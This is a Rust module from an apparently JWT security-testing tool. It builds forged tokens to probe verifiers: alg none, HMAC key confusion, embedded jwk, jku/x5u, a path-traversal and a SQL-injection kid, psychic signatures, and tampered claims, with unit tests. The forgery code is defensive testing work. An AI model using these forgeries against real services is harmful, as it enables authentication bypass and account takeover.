//! The forgeries of PROBES.md's "API probes" table, made from a genuine token so that only the
//! thing under test differs: the registry [`AttackId`] and [`attack`], which returns every
//! variant of one forgery under a stable name (`alg-none/NONE`,
//! `hmac-key-confusion/HS256/spki-pem/kid`, ...).

use aws_lc_rs::hmac;
use serde_json::{Map, Value};

use super::attacker::attacker_key_for;
use super::edit::{Signing, Token, hmac_algorithm};
use super::issuer_key::IssuerKey;
use super::{ForgeError, ForgeInput};
use crate::keys::{JwsAlg, PrivateKey};

/// A forgery, by its id (the API probe `api.<id>` sends it).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum AttackId {
    /// `alg` none, None, NONE, nOnE, with an empty signature.
    AlgNone,
    /// The header and claims with no signature.
    SignatureStripped,
    /// One bit of the signature flipped.
    SignatureInvalid,
    /// `sub`, `scope`, `exp` changed, the old signature kept.
    ClaimsTampered,
    /// HS256/384/512 keyed with the issuer's public key in each form a verifier may hold it.
    HmacKeyConfusion,
    /// Signed by a fresh key, that key in the `jwk` header.
    EmbeddedJwk,
    /// Signed by the attacker's key, `jku` pointing at its JWKS.
    Jku,
    /// Signed by the attacker's key, `x5u` pointing at its certificate.
    X5u,
    /// A path-traversal `kid` with an empty HMAC key; a SQL-injection `kid`.
    KidInjection,
    /// ES256 with r = s = 0 (CVE-2022-21449).
    PsychicSignature,
    /// Signed by the attacker's key, `iss` the attacker's.
    ForeignIssuer,
}

impl AttackId {
    /// Every forgery, in PROBES.md's order.
    pub const ALL: [AttackId; 11] = [
        AttackId::AlgNone,
        AttackId::SignatureStripped,
        AttackId::SignatureInvalid,
        AttackId::ClaimsTampered,
        AttackId::HmacKeyConfusion,
        AttackId::EmbeddedJwk,
        AttackId::Jku,
        AttackId::X5u,
        AttackId::KidInjection,
        AttackId::PsychicSignature,
        AttackId::ForeignIssuer,
    ];

    /// The id (`alg-none`, ...).
    pub fn as_str(self) -> &'static str {
        match self {
            AttackId::AlgNone => "alg-none",
            AttackId::SignatureStripped => "signature-stripped",
            AttackId::SignatureInvalid => "signature-invalid",
            AttackId::ClaimsTampered => "claims-tampered",
            AttackId::HmacKeyConfusion => "hmac-key-confusion",
            AttackId::EmbeddedJwk => "embedded-jwk",
            AttackId::Jku => "jku",
            AttackId::X5u => "x5u",
            AttackId::KidInjection => "kid-injection",
            AttackId::PsychicSignature => "psychic-signature",
            AttackId::ForeignIssuer => "foreign-issuer",
        }
    }

    /// One line on what is sent.
    pub fn title(self) -> &'static str {
        match self {
            AttackId::AlgNone => "alg none (none, None, NONE, nOnE), empty signature",
            AttackId::SignatureStripped => "the header and claims with no signature",
            AttackId::SignatureInvalid => "one bit of the signature flipped",
            AttackId::ClaimsTampered => "sub, scope, exp changed, the old signature kept",
            AttackId::HmacKeyConfusion => "HS256/384/512 keyed with the issuer's public key",
            AttackId::EmbeddedJwk => "signed by a fresh key, that key in the jwk header",
            AttackId::Jku => "signed by the attacker's key, jku pointing at its JWKS",
            AttackId::X5u => "signed by the attacker's key, x5u pointing at its certificate",
            AttackId::KidInjection => "kid as a path to an empty file, and as SQL",
            AttackId::PsychicSignature => "ES256 with r = s = 0",
            AttackId::ForeignIssuer => "signed by the attacker's key, iss the attacker's",
        }
    }

    /// Whether the forgery needs something served (a URL to point at or an issuer to be):
    /// those are made by the API probes, not alone.
    pub fn needs_server(self) -> bool {
        match self {
            AttackId::Jku | AttackId::X5u | AttackId::ForeignIssuer => true,
            AttackId::AlgNone
            | AttackId::SignatureStripped
            | AttackId::SignatureInvalid
            | AttackId::ClaimsTampered
            | AttackId::HmacKeyConfusion
            | AttackId::EmbeddedJwk
            | AttackId::KidInjection
            | AttackId::PsychicSignature => false,
        }
    }
}

impl std::fmt::Display for AttackId {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.as_str())
    }
}

impl std::str::FromStr for AttackId {
    type Err = String;

    fn from_str(s: &str) -> Result<Self, Self::Err> {
        let s = s.trim();
        let s = s.strip_prefix("api.").unwrap_or(s);
        AttackId::ALL
            .into_iter()
            .find(|a| a.as_str().eq_ignore_ascii_case(s))
            .ok_or_else(|| {
                let names: Vec<&str> = AttackId::ALL.iter().map(|a| a.as_str()).collect();
                format!("unknown forgery {s:?}; use one of {}", names.join(", "))
            })
    }
}

/// What some forgeries need beyond the token.
#[derive(Debug, Clone, Copy, Default)]
pub struct AttackInputs<'a> {
    /// The issuer's public key (`hmac-key-confusion`).
    pub issuer_key: Option<&'a IssuerKey>,
    /// The attacker's key (`jku`, `x5u`: the key the served set holds; `embedded-jwk`,
    /// `foreign-issuer`: used when it can sign the token's `alg`, else a fresh key is made).
    pub attacker_key: Option<&'a PrivateKey>,
    /// Where `jku` / `x5u` point.
    pub url: Option<&'a str>,
    /// The `iss` of a `foreign-issuer` token.
    pub attacker_issuer: Option<&'a str>,
}

/// One forged token.
#[derive(Debug, Clone, PartialEq)]
pub struct Variant {
    /// The forgery it belongs to.
    pub attack: AttackId,
    /// Its stable name: the attack's id, then what this variant does (`alg-none/nOnE`).
    pub name: String,
    /// The compact token to send.
    pub token: String,
    /// Its header, decoded.
    pub header: Map<String, Value>,
    /// Its claims, decoded.
    pub claims: Value,
}

impl Variant {
    fn new(attack: AttackId, detail: &str, token: &Token) -> Variant {
        Variant::raw(attack, detail, token, token.encode())
    }

    fn raw(attack: AttackId, detail: &str, token: &Token, text: String) -> Variant {
        let name = if detail.is_empty() {
            attack.as_str().to_owned()
        } else {
            format!("{}/{detail}", attack.as_str())
        };
        Variant {
            attack,
            name,
            token: text,
            header: token.header().clone(),
            claims: token.claims().clone(),
        }
    }
}

/// Header members that point at or carry a key: removed where the forgery brings its own,
/// so that a verdict names one cause.
const KEY_MEMBERS: [&str; 6] = ["jwk", "jku", "x5u", "x5c", "x5t", "x5t#S256"];

/// A path to a file that is empty on every Unix.
pub const KID_PATH: &str = "../../../../dev/null";
/// A `kid` that makes a query select a key the attacker chose ([`KID_SQL_KEY`]).
pub const KID_SQL: &str = "x' UNION SELECT 'grantscope-kid-injection' -- ";
/// The HMAC key [`KID_SQL`] selects.
pub const KID_SQL_KEY: &[u8] = b"grantscope-kid-injection";
/// The `exp` set when the token has none: 2100-01-01.
const FAR_EXP: i64 = 4_102_444_800;

/// Every variant of the forgery `id` of `token`.
pub fn attack(
    id: AttackId,
    token: &Token,
    inputs: &AttackInputs<'_>,
) -> Result<Vec<Variant>, ForgeError> {
    match id {
        AttackId::AlgNone => ["none", "None", "NONE", "nOnE"]
            .into_iter()
            .map(|spelling| {
                let mut t = token.clone();
                t.sign(Signing::None { spelling })?;
                Ok(Variant::new(id, spelling, &t))
            })
            .collect(),
        AttackId::SignatureStripped => Ok(vec![
            Variant::raw(
                id,
                "empty-signature",
                token,
                format!("{}.", token.signing_input()),
            ),
            Variant::raw(id, "two-parts", token, token.signing_input()),
        ]),
        AttackId::SignatureInvalid => {
            let mut signature = token.signature().to_vec();
            let middle = signature.len() / 2;
            let Some(byte) = signature.get_mut(middle) else {
                return Err(ForgeError::NoSignature);
            };
            *byte ^= 0x01;
            let mut t = token.clone();
            t.set_signature(signature);
            Ok(vec![Variant::new(id, "", &t)])
        }
        AttackId::ClaimsTampered => claims_tampered(token),
        AttackId::HmacKeyConfusion => {
            let key = inputs
                .issuer_key
                .ok_or(ForgeError::Missing(ForgeInput::IssuerKey))?;
            hmac_key_confusion(token, key)
        }
        AttackId::EmbeddedJwk => {
            let attacker = signing_key(token, inputs.attacker_key)?;
            let key = attacker.key();
            let alg = alg_for(token, key);
            let mut t = without_key_members(token);
            t.set_header("jwk", key.public_jwk())?;
            t.sign(Signing::Key {
                key,
                alg: Some(alg),
                set_kid: true,
            })?;
            Ok(vec![Variant::new(id, "", &t)])
        }
        AttackId::Jku | AttackId::X5u => {
            let key = inputs
                .attacker_key
                .ok_or(ForgeError::Missing(ForgeInput::AttackerKey))?;
            let url = inputs.url.ok_or(ForgeError::Missing(ForgeInput::Url))?;
            let alg = alg_for(token, key);
            let mut t = without_key_members(token);
            t.set_header(id.as_str(), Value::String(url.to_owned()))?;
            t.sign(Signing::Key {
                key,
                alg: Some(alg),
                set_kid: true,
            })?;
            Ok(vec![Variant::new(id, "", &t)])
        }
        AttackId::KidInjection => {
            let mut path = token.clone();
            path.set_header("kid", Value::String(KID_PATH.to_owned()))?;
            path.sign(Signing::Secret {
                secret: b"",
                alg: JwsAlg::Hs256,
            })?;
            let mut sql = token.clone();
            sql.set_header("kid", Value::String(KID_SQL.to_owned()))?;
            sql.sign(Signing::Secret {
                secret: KID_SQL_KEY,
                alg: JwsAlg::Hs256,
            })?;
            Ok(vec![
                Variant::new(id, "dev-null", &path),
                Variant::new(id, "sql", &sql),
            ])
        }
        AttackId::PsychicSignature => {
            let mut t = token.clone();
            t.set_header("alg", Value::String("ES256".into()))?;
            t.set_signature(vec![0u8; 64]);
            Ok(vec![Variant::new(id, "", &t)])
        }
        AttackId::ForeignIssuer => {
            let iss = inputs
                .attacker_issuer
                .ok_or(ForgeError::Missing(ForgeInput::AttackerIssuer))?;
            let attacker = signing_key(token, inputs.attacker_key)?;
            let key = attacker.key();
            let alg = alg_for(token, key);
            let mut t = without_key_members(token);
            t.set_claim("iss", Value::String(iss.to_owned()))?;
            t.sign(Signing::Key {
                key,
                alg: Some(alg),
                set_kid: true,
            })?;
            Ok(vec![Variant::new(id, "", &t)])
        }
    }
}

/// The token's `alg` when the key makes it, else the key's own.
fn alg_for(token: &Token, key: &PrivateKey) -> JwsAlg {
    token
        .alg()
        .and_then(|a| a.parse::<JwsAlg>().ok())
        .filter(|a| key.supports(*a))
        .unwrap_or_else(|| key.default_alg())
}

/// The attacker's key: the one given, or a fresh one.
enum AttackerKey<'k> {
    Given(&'k PrivateKey),
    Fresh(PrivateKey),
}

impl AttackerKey<'_> {
    fn key(&self) -> &PrivateKey {
        match self {
            AttackerKey::Given(key) => key,
            AttackerKey::Fresh(key) => key,
        }
    }
}

/// The given key when it makes the token's `alg` (or the token names none grantscope
/// knows); else a fresh key of the token's family.
fn signing_key<'k>(
    token: &Token,
    given: Option<&'k PrivateKey>,
) -> Result<AttackerKey<'k>, ForgeError> {
    let own = token.alg().and_then(|a| a.parse::<JwsAlg>().ok());
    match given {
        Some(key) if own.is_none_or(|a| key.supports(a)) => Ok(AttackerKey::Given(key)),
        _ => Ok(AttackerKey::Fresh(attacker_key_for(token)?)),
    }
}

fn without_key_members(token: &Token) -> Token {
    let mut t = token.clone();
    for name in KEY_MEMBERS {
        t.unset_header(name);
    }
    t
}

fn claims_tampered(token: &Token) -> Result<Vec<Variant>, ForgeError> {
    let id = AttackId::ClaimsTampered;
    let claims = token.claims().as_object().ok_or_else(|| {
        ForgeError::ClaimsNotObject(crate::token::decode::json_type(token.claims()))
    })?;
    let mut variants = Vec::new();

    let mut sub = token.clone();
    let new_sub = match claims.get("sub").and_then(Value::as_str) {
        Some("grantscope-tampered") => "grantscope-tampered-2",
        _ => "grantscope-tampered",
    };
    sub.set_claim("sub", Value::String(new_sub.into()))?;
    variants.push(Variant::new(id, "sub", &sub));

    let mut scope = token.clone();
    match (claims.get("scope"), claims.get("scp")) {
        (Some(Value::String(s)), _) => {
            scope.set_claim("scope", Value::String(format!("{s} grantscope.tampered")))?
        }
        (None, Some(Value::Array(scp))) => {
            let mut scp = scp.clone();
            scp.push(Value::String("grantscope.tampered".into()));
            scope.set_claim("scp", Value::Array(scp))?
        }
        _ => scope.set_claim("scope", Value::String("grantscope.tampered".into()))?,
    }
    variants.push(Variant::new(id, "scope", &scope));

    let mut exp = token.clone();
    let new_exp = match claims.get("exp").and_then(Value::as_i64) {
        Some(old) => old.saturating_add(365 * 24 * 3600),
        None => FAR_EXP,
    };
    exp.set_claim("exp", Value::from(new_exp))?;
    variants.push(Variant::new(id, "exp", &exp));
    Ok(variants)
}

fn hmac_key_confusion(token: &Token, key: &IssuerKey) -> Result<Vec<Variant>, ForgeError> {
    let id = AttackId::HmacKeyConfusion;
    let pem = key.spki_pem();
    let mut forms: Vec<(&str, Vec<u8>)> = vec![
        ("spki-pem", pem.clone().into_bytes()),
        (
            "spki-pem-no-final-newline",
            pem.trim_end_matches('\n').as_bytes().to_vec(),
        ),
    ];
    if let Some(pkcs1) = key.pkcs1_pem() {
        forms.push(("pkcs1-pem", pkcs1.into_bytes()));
    }
    forms.push(("der", key.spki_der()));
    forms.push(("jwk", key.jwk_json().into_bytes()));
    // The genuine kid: the token's, else the key's.
    let kid = token.kid().or(key.kid()).map(str::to_owned);
    let mut variants = Vec::new();
    for alg in [JwsAlg::Hs256, JwsAlg::Hs384, JwsAlg::Hs512] {
        for (form, secret) in &forms {
            for with_kid in [true, false] {
                let mut t = token.clone();
                match (&kid, with_kid) {
                    (Some(kid), true) => t.set_header("kid", Value::String(kid.clone()))?,
                    (None, true) => continue,
                    (_, false) => {
                        t.unset_header("kid");
                    }
                }
                t.sign(Signing::Secret { secret, alg })?;
                let detail = format!("{alg}/{form}/{}", if with_kid { "kid" } else { "no-kid" });
                variants.push(Variant::new(id, &detail, &t));
            }
        }
    }
    Ok(variants)
}

/// Whether `token`'s signature is an HMAC under `secret` (for tests and the weak-secret
/// check).
pub fn hmac_verifies(token: &Token, secret: &[u8]) -> bool {
    let Some(algorithm) = token
        .alg()
        .and_then(|a| a.parse::<JwsAlg>().ok())
        .and_then(hmac_algorithm)
    else {
        return false;
    };
    let key = hmac::Key::new(algorithm, secret);
    hmac::verify(&key, token.signing_input().as_bytes(), token.signature()).is_ok()
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::keys::{GenerateType, ParsedJws, Signer};
    use crate::token::forge::issuer_key::tests::{RSA_SPKI_PEM, rsa_jwk};
    use serde_json::json;

    /// A genuine RS256 access token of a fresh issuer key, and that key.
    fn genuine() -> (Token, PrivateKey) {
        let key = PrivateKey::generate(GenerateType::Rsa2048).unwrap();
        let header = serde_json::from_value(json!({
            "typ": "at+jwt", "kid": "issuer-1", "x5t#S256": "abc"
        }))
        .unwrap();
        let mut token = Token::from_parts(
            header,
            json!({"iss": "https://as.example", "sub": "alice", "scope": "read", "exp": 1_800_000_000}),
        );
        token
            .sign(Signing::Key {
                key: &key,
                alg: Some(JwsAlg::Rs256),
                set_kid: false,
            })
            .unwrap();
        (Token::parse(&token.encode()).unwrap(), key)
    }

    fn names(variants: &[Variant]) -> Vec<&str> {
        variants.iter().map(|v| v.name.as_str()).collect()
    }

    #[test]
    fn ids_round_trip_and_the_unknown_is_named() {
        for id in AttackId::ALL {
            assert_eq!(id.as_str().parse::<AttackId>(), Ok(id));
            assert_eq!(format!("api.{id}").parse::<AttackId>(), Ok(id));
        }
        assert!("nope".parse::<AttackId>().unwrap_err().contains("alg-none"));
    }

    #[test]
    fn alg_none_stripped_and_invalid_keep_everything_else() {
        let (token, key) = genuine();
        let none = attack(AttackId::AlgNone, &token, &AttackInputs::default()).unwrap();
        assert_eq!(
            names(&none),
            [
                "alg-none/none",
                "alg-none/None",
                "alg-none/NONE",
                "alg-none/nOnE"
            ]
        );
        for v in &none {
            assert!(v.token.ends_with('.'));
            assert_eq!(v.claims, *token.claims());
            assert_eq!(v.header["kid"], "issuer-1");
            assert_eq!(
                Token::parse(&v.token).unwrap().alg(),
                v.name.split('/').nth(1)
            );
        }
        let stripped = attack(
            AttackId::SignatureStripped,
            &token,
            &AttackInputs::default(),
        )
        .unwrap();
        let original = token.encode();
        let (input, _) = original.rsplit_once('.').unwrap();
        assert_eq!(stripped[0].token, format!("{input}."));
        assert_eq!(stripped[1].token, input);

        let invalid = attack(AttackId::SignatureInvalid, &token, &AttackInputs::default()).unwrap();
        let flipped = Token::parse(&invalid[0].token).unwrap();
        let differing: u32 = flipped
            .signature()
            .iter()
            .zip(token.signature())
            .map(|(a, b)| (a ^ b).count_ones())
            .sum();
        assert_eq!(differing, 1);
        assert!(
            ParsedJws::parse(&original)
                .unwrap()
                .verify(Signer::Key(&key))
        );
        assert!(
            !ParsedJws::parse(&invalid[0].token)
                .unwrap()
                .verify(Signer::Key(&key))
        );
        let unsigned = Token::parse(&none[0].token).unwrap();
        assert!(matches!(
            attack(
                AttackId::SignatureInvalid,
                &unsigned,
                &AttackInputs::default()
            ),
            Err(ForgeError::NoSignature)
        ));
    }

    #[test]
    fn claims_tampered_keeps_the_old_signature() {
        let (token, _) = genuine();
        let sig = token.encode().rsplit_once('.').unwrap().1.to_owned();
        let variants = attack(AttackId::ClaimsTampered, &token, &AttackInputs::default()).unwrap();
        assert_eq!(
            names(&variants),
            [
                "claims-tampered/sub",
                "claims-tampered/scope",
                "claims-tampered/exp"
            ]
        );
        for v in &variants {
            assert!(v.token.ends_with(&format!(".{sig}")));
            assert_eq!(v.header, *token.header());
        }
        assert_eq!(variants[0].claims["sub"], "grantscope-tampered");
        assert_eq!(variants[1].claims["scope"], "read grantscope.tampered");
        assert_eq!(variants[2].claims["exp"], 1_800_000_000 + 365 * 24 * 3600);
    }

    #[test]
    fn hmac_key_confusion_is_keyed_with_each_form_of_the_public_key() {
        let (token, _) = genuine();
        let issuer = IssuerKey::from_jwk(&rsa_jwk()).unwrap();
        let missing = attack(AttackId::HmacKeyConfusion, &token, &AttackInputs::default());
        assert!(matches!(
            missing,
            Err(ForgeError::Missing(ForgeInput::IssuerKey))
        ));
        let inputs = AttackInputs {
            issuer_key: Some(&issuer),
            ..AttackInputs::default()
        };
        let variants = attack(AttackId::HmacKeyConfusion, &token, &inputs).unwrap();
        assert_eq!(variants.len(), 3 * 5 * 2);
        let find = |name: &str| variants.iter().find(|v| v.name == name).unwrap();
        // Independently of the forging code: aws-lc-rs HMAC and jsonwebtoken, keyed with the
        // PEM exactly as OpenSSL wrote it.
        let v = find("hmac-key-confusion/HS256/spki-pem/kid");
        assert_eq!(v.header["kid"], "issuer-1");
        assert_eq!(v.header["alg"], "HS256");
        let (input, sig) = v.token.rsplit_once('.').unwrap();
        let key = hmac::Key::new(hmac::HMAC_SHA256, RSA_SPKI_PEM.as_bytes());
        let sig = crate::token::decode::b64_lenient(sig).unwrap();
        hmac::verify(&key, input.as_bytes(), &sig).unwrap();
        let dk = jsonwebtoken::DecodingKey::from_secret(RSA_SPKI_PEM.as_bytes());
        let mut validation = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::HS256);
        validation.validate_exp = false;
        jsonwebtoken::decode::<Value>(&v.token, &dk, &validation).unwrap();

        let v = find("hmac-key-confusion/HS512/spki-pem-no-final-newline/no-kid");
        assert!(v.header.get("kid").is_none());
        let t = Token::parse(&v.token).unwrap();
        assert!(hmac_verifies(&t, RSA_SPKI_PEM.trim_end().as_bytes()));
        assert!(!hmac_verifies(&t, RSA_SPKI_PEM.as_bytes()));
        let t = Token::parse(&find("hmac-key-confusion/HS384/pkcs1-pem/kid").token).unwrap();
        assert!(hmac_verifies(&t, issuer.pkcs1_pem().unwrap().as_bytes()));
        let t = Token::parse(&find("hmac-key-confusion/HS256/der/kid").token).unwrap();
        assert!(hmac_verifies(&t, &issuer.spki_der()));
        let t = Token::parse(&find("hmac-key-confusion/HS256/jwk/no-kid").token).unwrap();
        assert!(hmac_verifies(&t, issuer.jwk_json().as_bytes()));
    }

    #[test]
    fn embedded_jwk_foreign_issuer_jku_and_x5u_verify_with_the_attacker_key() {
        let (token, issuer_key) = genuine();
        let embedded = attack(AttackId::EmbeddedJwk, &token, &AttackInputs::default()).unwrap();
        let v = &embedded[0];
        assert_eq!(v.header["alg"], "RS256");
        assert!(v.header.get("x5t#S256").is_none());
        let jwk: jsonwebtoken::jwk::Jwk = serde_json::from_value(v.header["jwk"].clone()).unwrap();
        assert_eq!(v.header["kid"], v.header["jwk"]["kid"]);
        let dk = jsonwebtoken::DecodingKey::from_jwk(&jwk).unwrap();
        let mut validation = jsonwebtoken::Validation::new(jsonwebtoken::Algorithm::RS256);
        validation.validate_exp = false;
        jsonwebtoken::decode::<Value>(&v.token, &dk, &validation).unwrap();
        assert!(
            !ParsedJws::parse(&v.token)
                .unwrap()
                .verify(Signer::Key(&issuer_key))
        );

        let attacker = PrivateKey::generate(GenerateType::EcP256).unwrap();
        let inputs = AttackInputs {
            attacker_key: Some(&attacker),
            url: Some("http://127.0.0.1:9/jwks.json"),
            attacker_issuer: Some("http://127.0.0.1:9"),
            ..AttackInputs::default()
        };
        for id in [AttackId::Jku, AttackId::X5u] {
            let v = &attack(id, &token, &inputs).unwrap()[0];
            assert_eq!(v.name, id.as_str());
            assert_eq!(v.header[id.as_str()], "http://127.0.0.1:9/jwks.json");
            assert_eq!(v.header["kid"], attacker.kid());
            // The only key-bearing member is the one under test.
            let others: Vec<&str> = KEY_MEMBERS
                .into_iter()
                .filter(|m| *m != id.as_str() && v.header.contains_key(*m))
                .collect();
            assert!(others.is_empty(), "{others:?}");
            // An RS256 token, an EC key: the key's own algorithm.
            assert_eq!(v.header["alg"], "ES256");
            assert!(
                ParsedJws::parse(&v.token)
                    .unwrap()
                    .verify(Signer::Key(&attacker))
            );
        }
        // foreign-issuer: the given EC key cannot make RS256, so a fresh RSA key signs.
        let v = &attack(AttackId::ForeignIssuer, &token, &inputs).unwrap()[0];
        assert_eq!(v.claims["iss"], "http://127.0.0.1:9");
        assert_eq!(v.claims["sub"], "alice");
        assert_eq!(v.header["alg"], "RS256");
        for (id, missing) in [
            (AttackId::Jku, ForgeInput::AttackerKey),
            (AttackId::X5u, ForgeInput::AttackerKey),
            (AttackId::ForeignIssuer, ForgeInput::AttackerIssuer),
        ] {
            let err = attack(id, &token, &AttackInputs::default()).unwrap_err();
            assert!(
                matches!(err, ForgeError::Missing(m) if m == missing),
                "{err}"
            );
        }
    }

    #[test]
    fn kid_injection_and_psychic_signature() {
        let (token, _) = genuine();
        let kid = attack(AttackId::KidInjection, &token, &AttackInputs::default()).unwrap();
        assert_eq!(names(&kid), ["kid-injection/dev-null", "kid-injection/sql"]);
        assert_eq!(kid[0].header["kid"], KID_PATH);
        assert!(hmac_verifies(&Token::parse(&kid[0].token).unwrap(), b""));
        assert_eq!(kid[1].header["kid"], KID_SQL);
        assert!(hmac_verifies(
            &Token::parse(&kid[1].token).unwrap(),
            KID_SQL_KEY
        ));

        let psychic = attack(AttackId::PsychicSignature, &token, &AttackInputs::default()).unwrap();
        let t = Token::parse(&psychic[0].token).unwrap();
        assert_eq!(t.alg(), Some("ES256"));
        assert_eq!(t.signature(), &[0u8; 64]);
        assert_eq!(t.kid(), Some("issuer-1"));
    }
}
